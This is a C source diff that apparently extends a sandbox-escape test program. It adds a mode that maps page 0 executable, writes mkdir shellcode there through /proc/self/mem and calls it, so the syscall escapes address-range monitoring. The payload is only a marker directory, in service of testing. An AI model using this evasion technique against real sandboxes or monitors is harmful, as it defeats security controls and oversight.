@@ -11,6 +11,13 @@
  *
  *   escape_slot slot-map MARK      in this image
  *   escape_slot slot-reexec MARK   after exec'ing itself (the same slots)
+ *
+ * The kernel makes executable memory too: with personality
+ * MMAP_PAGE_ZERO an exec maps page 0 r-x (root: CAP_SYS_RAWIO).  Code
+ * written there through /proc/self/mem, outside every range of an image
+ * moved to an earlier one's addresses, makes the raw mkdir of MARK:
+ *
+ *   escape_slot page-zero MARK     personality, re-exec, call page 0
  */
 #include <errno.h>
 #include <fcntl.h>
@@ -19,6 +26,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/mman.h>
+#include <sys/personality.h>
 #include <sys/stat.h>
 #include <unistd.h>
 
@@ -120,15 +128,46 @@ landed:
 	return mkdir(mark, 0755) == 0 ? 0 : 1;
 }
 
+static int
+page_zero(char **argv)
+{
+	static const unsigned char code[] = { 0xb8, 83, 0, 0, 0,	/* mkdir */
+		0x0f, 0x05, 0xc3 };
+	long (*at0)(const char *, long) = NULL;
+	int fd;
+
+	if (strcmp(argv[1], "page-zero") == 0) {
+		char *const av[] = { argv[0], (char *)"page-zero-2", argv[2],
+		    NULL };
+		if (personality(0xffffffff | 0) == -1 ||
+		    personality(MMAP_PAGE_ZERO) == -1) {
+			printf("personality: %s\n", strerror(errno));
+			return 3;
+		}
+		execv("/proc/self/exe", av);
+		printf("execv: %s\n", strerror(errno));
+		return 3;
+	}
+	if ((fd = open("/proc/self/mem", O_RDWR | O_CLOEXEC)) == -1 ||
+	    pwrite(fd, code, sizeof(code), 0) != (ssize_t)sizeof(code)) {
+		printf("no page 0: %s\n", strerror(errno));
+		return 3;
+	}
+	__asm__ volatile("" : "+r"(at0));
+	return at0(argv[2], 0755) == 0 ? 0 : 3;
+}
+
 int
 main(int argc, char **argv)
 {
 	setvbuf(stdout, NULL, _IONBF, 0);
 	if (argc != 3) {
-		fprintf(stderr, "usage: escape_slot slot-map|slot-reexec "
-		    "MARK\n");
+		fprintf(stderr, "usage: escape_slot slot-map|slot-reexec|"
+		    "page-zero MARK\n");
 		return 2;
 	}
+	if (strncmp(argv[1], "page-zero", 9) == 0)
+		return page_zero(argv);
 	if (strcmp(argv[1], "slot-reexec") == 0) {
 		char *const av[] = { argv[0], (char *)"slot-map", argv[2],
 		    NULL };
